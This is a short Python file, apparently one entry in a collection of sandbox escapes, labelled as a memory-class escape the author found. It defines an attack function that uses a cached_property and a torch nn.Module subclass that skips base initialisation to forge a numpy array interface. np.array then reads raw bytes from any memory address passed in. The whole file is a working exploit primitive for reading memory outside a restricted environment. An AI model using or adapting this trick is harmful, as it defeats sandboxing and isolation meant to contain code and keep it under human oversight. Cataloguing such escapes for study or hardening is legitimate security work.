"""Class: memory. Source: own find. Escape: memory outside is read: a cached property gets the name of a
register in a class that has no base, and is put into a subclass of Module under another."""

import functools

import numpy as np
from torch import nn

at = []


class Nothing:
    @functools.cached_property
    def _parameters(self):
        described = {"version": 3, "typestr": "|u1", "shape": (6,), "data": (at[0], True)}
        return {"__array_interface__": described}


class Register(nn.Module):
    def __init__(self):
        pass


def attack(model, tokenizer, address):
    at.append(address)
    Register.harmless = Nothing._parameters
    register = Register()
    register.harmless
    return bytes(np.array(register).tolist())
